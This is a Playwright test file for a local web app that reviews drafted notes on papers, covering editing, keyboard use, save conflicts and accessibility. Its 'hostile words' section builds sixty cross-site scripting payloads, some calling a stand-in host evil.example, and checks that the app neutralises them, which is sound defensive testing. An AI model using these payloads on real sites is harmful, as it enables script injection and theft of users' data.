"""The pages in a real browser: the whole round, hostile words, and what a screen reader needs."""

from __future__ import annotations

import hashlib
import json
import re
from collections.abc import Iterator
from itertools import count

import pytest
from playwright.sync_api import Browser, Route, expect

from tests.support.browser import NARROW, WIDE, Tab, axe_script, chromium, serving
from tests.support.command import Command
from tests.web.conftest import LOG, SLUG, entry

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as found:
        yield found


@pytest.fixture
def tab(drafted: Command, browser: Browser) -> Iterator[Tab]:
    """Give the list of the drafts in a browser."""
    with serving(drafted) as address:
        yield Tab(browser, address)


def test_the_whole_round_open_click_a_mark_edit_see_it_go_accept_undo(
    drafted: Command, tab: Tab
) -> None:
    page = tab.page
    page.keyboard.press("j")
    page.keyboard.press("Enter")
    page.wait_for_selector("#entry mark.doubt")
    page.locator("#entry mark.doubt").first.click()
    page.wait_for_selector("#boxes .words")
    assert "lit" in (page.locator("#entry mark.doubt").first.get_attribute("class") or "")
    page.keyboard.press("e")
    text = page.locator("#text").input_value()
    assert text.encode() == entry(drafted).read_bytes()
    page.locator("#text").fill(text.replace("67.9", "61.4"))
    expect(page.locator("#entry mark.doubt")).to_have_count(0)
    expect(page.locator("#kept")).to_have_text("未保存")
    page.keyboard.press("Control+s")
    expect(page.locator("#kept")).to_have_text("")
    assert entry(drafted).read_bytes() == text.replace("67.9", "61.4").encode()
    page.keyboard.press("Escape")
    page.keyboard.press("a")
    expect(page.locator("#diff")).to_contain_text("61.4")
    digest = hashlib.sha256(entry(drafted).read_bytes()).hexdigest()
    expect(page.locator("#change-said")).to_contain_text(digest[:12])
    assert (drafted.folder / "log.md").read_text() == LOG
    page.locator("#put").dblclick()
    page.wait_for_url(f"{tab.origin}/")
    expect(page.locator("#message")).to_contain_text("accepted")
    assert (drafted.folder / "log.md").read_text().count("《Sparrow") == 1
    page.keyboard.press("u")
    page.wait_for_selector(".drafts a")
    assert (drafted.folder / "log.md").read_text() == LOG
    assert tab.left == []
    assert tab.troubles == []


def test_keys_lines_and_the_paper_are_there_without_a_mouse(tab: Tab) -> None:
    page = tab.open(SLUG)
    for _ in range(2):
        page.keyboard.press("j")
    page.wait_for_selector("#boxes .words")
    assert page.evaluate("document.activeElement.className").startswith("point")
    page.keyboard.press("n")
    assert "doubt" in page.evaluate("document.activeElement.className")
    page.keyboard.press("]")
    expect(page.locator("#number")).to_have_value("2")
    page.keyboard.press("/")
    page.keyboard.type("LongRead")
    page.keyboard.press("Enter")
    expect(page.locator("#hits")).to_contain_text("第 1 /")
    page.keyboard.press("Escape")
    page.keyboard.press("e")
    page.locator("#text").evaluate("node => node.setSelectionRange(0, 0)")
    line = page.locator("#lines button").first
    expect(line).to_contain_text("Small Models That Read")  # page 1, where it was found
    words = line.inner_text()
    line.focus()
    page.keyboard.press("Enter")
    assert page.locator("#text").input_value().startswith(f"“{words}” (p. ")
    page.keyboard.press("?")
    expect(page.locator("#help")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.locator("#help")).to_be_hidden()
    assert tab.troubles == []


def test_another_programs_save_is_told_and_what_was_typed_comes_back(
    drafted: Command, tab: Tab
) -> None:
    page = tab.open(SLUG)
    page.keyboard.press("e")
    mine = page.locator("#text").input_value() + "mine"
    page.locator("#text").fill(mine)
    theirs = entry(drafted).read_text("utf-8") + "theirs\n"
    entry(drafted).write_text(theirs, "utf-8")
    page.keyboard.press("Control+s")
    page.locator("#load").click()
    expect(page.locator("#text")).to_have_value(theirs)
    assert entry(drafted).read_text("utf-8") == theirs
    page.locator("#bring-back").click()
    expect(page.locator("#text")).to_have_value(mine)
    page.keyboard.press("Control+s")
    expect(page.locator("#kept")).to_have_text("")
    assert entry(drafted).read_text("utf-8") == mine


def test_what_is_typed_while_another_programs_save_is_looked_for_stays(
    drafted: Command, tab: Tab
) -> None:
    page = tab.open(SLUG)
    page.keyboard.press("e")
    theirs = entry(drafted).read_text("utf-8") + "theirs\n"
    entry(drafted).write_text(theirs, "utf-8")
    held: list[Route] = []
    asked = count()
    page.route("**/entry", lambda one: held.append(one) if next(asked) else one.continue_())
    with page.expect_response("**/entry"):
        page.evaluate("window.dispatchEvent(new Event('focus'))")
    page.wait_for_timeout(300)  # until the answer is shown, or asked for once more
    page.keyboard.type("mine")
    for one in held:
        one.continue_()
    page.wait_for_timeout(300)
    typed = page.locator("#text").input_value()
    assert typed.replace("mine", "") == theirs != typed


@pytest.mark.parametrize("key", ["a", "r"])
def test_nothing_is_typed_while_what_was_typed_is_decided_on(tab: Tab, key: str) -> None:
    page = tab.open(SLUG)
    page.keyboard.press("e")
    text = page.locator("#text").input_value() + "mine"
    page.locator("#text").fill(text)
    page.keyboard.press("Escape")
    held: list[Route] = []
    page.route("**/save", lambda one: held.append(one))
    with page.expect_request("**/save"):
        page.keyboard.press(key)
    page.keyboard.press("e")
    page.keyboard.type("not this")
    expect(page.locator("#text")).to_have_value(text)


def test_what_is_typed_while_the_saved_text_is_loaded_comes_back(
    drafted: Command, tab: Tab
) -> None:
    page = tab.open(SLUG)
    page.keyboard.press("e")
    page.locator("#text").fill("mine")
    entry(drafted).write_text("theirs\n", "utf-8")
    page.keyboard.press("Control+s")
    held: list[Route] = []
    page.route("**/entry", lambda one: held.append(one))
    with page.expect_request("**/entry"):
        page.locator("#load").click()
    page.locator("#text").fill("mine, and more of it")
    held[0].continue_()
    expect(page.locator("#text")).to_have_value("theirs\n")
    page.locator("#bring-back").click()
    expect(page.locator("#text")).to_have_value("mine, and more of it")


def test_axe_finds_nothing_serious_and_nothing_is_wider_than_the_window(tab: Tab) -> None:
    script = axe_script()
    page = tab.page
    found = _serious(tab, script)
    tab.open(SLUG)
    page.keyboard.press("n")
    page.wait_for_selector("#boxes .words")
    page.keyboard.press("e")
    for width, height in (WIDE, NARROW):
        page.set_viewport_size({"width": width, "height": height})
        assert page.evaluate("document.documentElement.scrollWidth") <= width
        for scheme in ("light", "dark"):
            page.emulate_media(color_scheme="dark" if scheme == "dark" else "light")
            found += _serious(tab, script)
    page.keyboard.press("Escape")
    page.keyboard.press("a")
    page.wait_for_selector("#change[open]")
    found += _serious(tab, script)
    assert found == []


def _serious(tab: Tab, script: str) -> list[str]:
    tab.page.evaluate(script)
    run = "axe.run(document).then(found => JSON.stringify(found.violations))"
    violations = json.loads(tab.page.evaluate(run))
    return [
        f"{one['id']}: {one['nodes'][0]['html'][:200]}"
        for one in violations
        if one["impact"] in ("serious", "critical")
    ]


def test_the_help_with_its_legend_is_there_in_the_list_too(tab: Tab) -> None:
    page = tab.page
    page.keyboard.press("?")
    expect(page.locator("#help")).to_contain_text("虚线")
    page.keyboard.press("u")  # is for the list, and not for the help before it
    expect(page.locator("#message")).to_be_empty()
    assert _serious(tab, axe_script()) == []
    page.keyboard.press("Escape")
    expect(page.locator("#help")).to_be_hidden()
    page.locator("#keys").click()
    page.locator("#close-help").click()
    expect(page.locator("#help")).to_be_hidden()


# ── places ──


def test_marks_stand_beside_their_point_and_its_evidence_below_it(tab: Tab) -> None:
    page = tab.open(SLUG)
    note, said, quote = (
        page.locator(f".point:has(button.note.doubt) {one}").first.bounding_box()
        for one in ("button.note", ".said", ".quote")
    )
    assert note
    assert said
    assert quote
    assert note["x"] >= said["x"] + said["width"]
    assert said["y"] <= note["y"] < said["y"] + said["height"]
    assert quote["y"] >= said["y"] + said["height"]


def test_a_click_on_a_point_a_quote_a_number_and_a_mark_shows_its_place(tab: Tab) -> None:
    page = tab.open(SLUG)
    boxed = page.locator("#boxes .words")
    point = page.locator(".point:has(.number[data-words='3,200'])")
    point.locator(".said").click(position={"x": 5, "y": 5})
    of_point = f"第 {(point.get_attribute('data-where') or '').removeprefix('point ')} 点的引文"
    expect(boxed.first).to_have_attribute("aria-label", of_point)
    page.locator(".quote").first.click()
    expect(boxed.first).to_have_attribute("aria-label", "第 1 点的引文")
    point.locator(".number", has_text="3,200").click()
    expect(boxed.first).to_have_attribute("aria-label", "原文中的“3,200”")
    page.locator("#entry mark.doubt").click()
    expect(boxed.first).to_have_attribute("aria-label", "原文是 “61.4”")


def _with_table(command: Command) -> None:
    """Make a sentence of the paper a row of a table."""
    path = entry(command).with_name("text.json")
    kept = json.loads(path.read_text("utf-8"))
    text = kept["content"]["text"]
    start = text.index("Sparrow reaches 61.4 F1 on LongRead, while")
    cells = []
    for words in ("Sparrow", "61.4"):
        at = text.index(words, start)
        cells.append({"text": words, "start": at, "end": at + len(words)})
    row = {"label": "Sparrow", "cells": cells}
    table = {"label": "Table 1", "pages": [1], "heads": ["", "F1"], "rows": [row]}
    kept["content"]["tables"] = [table | {"made_out": True}]
    path.write_text(json.dumps(kept), "utf-8")


def test_a_box_says_what_it_is_around_where_it_is_pointed_at(drafted: Command, tab: Tab) -> None:
    _with_table(drafted)
    page = tab.open(SLUG)
    page.locator(".quote").first.click()
    quote = page.locator("#boxes .words").first
    expect(quote).to_have_attribute("aria-label", "第 1 点的引文")
    expect(quote.locator(".says")).to_be_hidden()
    quote.hover()
    expect(quote.locator(".says")).to_be_visible()
    page.locator("#words").fill("61.4")
    page.locator("#words").press("Enter")
    expect(page.locator("#boxes .words")).to_have_attribute("aria-label", "原文中的“61.4”")
    page.locator("#words").press("Enter")
    cell = page.locator("#boxes .words")
    expect(cell).to_have_attribute("aria-label", "Table 1 · 行 Sparrow · 列 F1")
    expect(page.locator("#boxes .row")).to_have_attribute("aria-label", "行 Sparrow")
    page.locator("#sheet").focus()
    page.keyboard.press("Tab")
    expect(cell.locator(".says")).to_be_visible()


def test_a_click_on_a_box_is_one_on_its_line(tab: Tab) -> None:
    page = tab.open(SLUG)
    page.locator(".quote").first.click()
    page.locator("#boxes .words").first.click()
    expect(page.locator("#message")).to_have_text("第 1 点 以这一行为依据")
    expect(page.locator(".line.chosen")).to_have_count(1)
    page.keyboard.press("j")
    expect(page.locator("#message")).to_be_empty()
    page.locator("#boxes .words").first.focus()
    page.keyboard.press("Enter")
    expect(page.locator("#message")).not_to_be_empty()


def test_which_of_the_places_of_a_number_is_shown_is_told_until_something_else_is(
    tab: Tab,
) -> None:
    page = tab.open(SLUG)
    number = page.locator("button.number", has_text="3,200")
    number.click()
    expect(page.locator("#hits")).to_have_text("第 1 / 2 处")
    number.click()
    expect(page.locator("#hits")).to_have_text("第 2 / 2 处")
    page.locator(".quote").first.click()
    expect(page.locator("#hits")).to_be_empty()
    number.click()
    expect(page.locator("#hits")).to_have_text("第 1 / 2 处")


def test_a_number_that_is_anothers_is_told_beside_what_to_do_and_shown(
    drafted: Command, tab: Tab
) -> None:
    page = tab.open(SLUG)
    page.keyboard.press("e")
    text = page.locator("#text").input_value()
    page.locator("#text").fill(text.replace("67.9", "9.8"))
    owner = page.locator(".remedy button")
    expect(page.locator(".remedy")).to_contain_text("改为")
    expect(owner).to_contain_text("loses 9.8 points")
    owner.click()
    expect(page.locator("#number")).to_have_value("2")
    expect(page.locator("#boxes .words")).to_have_attribute("aria-label", "原文中的“9.8”")
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme="dark" if scheme == "dark" else "light")
        assert _serious(tab, axe_script()) == []


def test_notes_of_one_kind_are_one_line(drafted: Command, tab: Tab) -> None:
    page = tab.open(SLUG)
    page.keyboard.press("e")
    text = page.locator("#text").input_value()
    page.locator("#text").fill(text.replace("notes.", "notes. 54.2, 70.1。", 1))
    page.locator("summary").click()
    gathered = page.locator(".gathered")
    expect(gathered).to_have_count(1)
    assert _serious(tab, axe_script()) == []
    expect(gathered.locator("button")).to_have_text(["54.2 p. 2", "70.1 p. 2"])
    gathered.locator("button").first.click()
    expect(page.locator("#boxes .words")).to_have_attribute("aria-label", "原文中的“54.2”")


# ── hostile words ──

CALLS = ["alert(1)", "document.body.dataset.owned=1", "fetch('https://evil.example/')"]
SHAPES = [
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>",
    "\"><script>{}</script>", "'><img src=x onerror={}>", "</textarea><script>{}</script>",
    "</title><script>{}</script>", "<a href=\"javascript:{}\">x</a>", "[x](javascript:{})",
    "[x](data:text/html,<script>{}</script>)", "![x](https://evil.example/a.png?{})",
    "<iframe srcdoc='<script>{}</script>'>", "<math><mtext><script>{}</script>", "<details open ontoggle={}>",
    "<style>@import 'https://evil.example/{}'</style>", "<link rel=stylesheet href=https://evil.example/{}>",
    "<body onload={}>", "`<script>{}</script>`", "{{% raw %}}{}{{{{ 7*7 }}}}",
]  # fmt: skip
PAYLOADS = [shape.format(call) for shape in SHAPES for call in CALLS]


def test_sixty_payloads_in_every_field_run_nothing_and_ask_nothing_of_anybody(
    drafted: Command, browser: Browser
) -> None:
    assert len(PAYLOADS) == 60
    folder = entry(drafted).parent
    for name in ("paper", "draft", "report", "text"):
        path = folder / f"{name}.json"
        kept = json.loads(path.read_text("utf-8"))
        _poison(kept["content"], iter(PAYLOADS * 200), name)
        path.write_text(json.dumps(kept), "utf-8")
    hostile = "《" + " ".join(PAYLOADS[:5]) + "》\n\n2024.1 " + PAYLOADS[0] + "，要点：\n\n"
    hostile += "\n".join(f"{n}. {payload} 61.4 67.9" for n, payload in enumerate(PAYLOADS, 1))
    entry(drafted).write_text(hostile + "\n\n" + "\n\n".join(PAYLOADS), "utf-8")
    named = folder.with_name("a<img src=x onerror=alert(1)>")
    folder.rename(named)
    with serving(drafted) as address:
        tab = Tab(browser, address)
        tab.page.wait_for_selector(".drafts a")
        tab.page.locator(".drafts a").first.click()
        tab.page.wait_for_selector("#entry p")
        assert "alert(1)" in tab.page.locator("#entry").inner_text()
        for key in ("j", "n", "n", "e", "Escape", "a"):
            tab.page.keyboard.press(key)
        tab.page.wait_for_selector("#change[open], #message.trouble")
        tab.page.keyboard.press("Escape")
        number = tab.page.locator("#entry .number", has_text="61.4").first
        cell = tab.page.locator("#boxes .words").first
        number.click()
        expect(cell).to_have_attribute("aria-label", "原文中的“61.4”")
        number.click()
        expect(cell).to_have_attribute("aria-label", re.compile("alert|owned|evil"))
        cell.hover()
        (named / "paper.pdf").unlink()  # an error names the folder
        tab.page.reload()
        expect(tab.page.locator("#message.trouble")).to_contain_text("onerror=alert(1)")
        tab.page.wait_for_timeout(500)
        assert "<script>" in tab.page.locator("h1").inner_text()
        assert tab.page.evaluate("document.body.dataset.owned") is None
        assert tab.left == []
        assert [one for one in tab.troubles if one == "1" or "evil" in one] == []


def _poison(value: object, payloads: Iterator[str], name: str) -> None:
    """Put payloads into every text that a record may have, but where only some words may stand."""
    if name == "text" and isinstance(value, dict):
        page = {"page": 1, "reason": next(payloads), "text": next(payloads)}
        value["hidden"] = [page]
        value["warnings"] = [next(payloads) for _ in range(3)]
        at = value["text"].index("61.4")
        cells = [{"text": "x"}, {"text": "61.4", "start": at, "end": at + 4}]
        row = {"label": next(payloads), "cells": cells}
        heads = [next(payloads), next(payloads)]
        table = {"label": next(payloads), "heads": heads, "rows": [row]}
        value["tables"] = [table | {"pages": [1], "made_out": True}]
        return
    items = (
        value.items()
        if isinstance(value, dict)
        else enumerate(value)
        if isinstance(value, list)
        else ()
    )
    free = {
        "title",
        "authors",
        "abstract",
        "comment",
        "journal_ref",
        "label",
        "text",
        "about",
        "kind_",
        "weakness",
    }
    free |= {"words", "message", "nearest", "quote", "drafter", "topic", "nickname", "affiliations"}
    for key, one in list(items):
        if isinstance(one, str) and key in free:
            value[key] = next(payloads)  # type: ignore[index]
        elif isinstance(one, list) and key in free and all(isinstance(word, str) for word in one):
            value[key] = [next(payloads) for _ in range(3)]  # type: ignore[index]
        else:
            _poison(one, payloads, name)


def test_what_a_page_hides_is_boxed_with_its_reason(drafted: Command, tab: Tab) -> None:
    path = entry(drafted).with_name("text.json")
    kept = json.loads(path.read_text("utf-8"))
    words = kept["content"]["text"][:40]
    kept["content"]["hidden"] = [{"page": 1, "reason": "white on white", "text": words}]
    path.write_text(json.dumps(kept), "utf-8")
    tab.open(SLUG)
    expect(tab.page.locator("#boxes .hidden .says").first).to_contain_text("white on white")
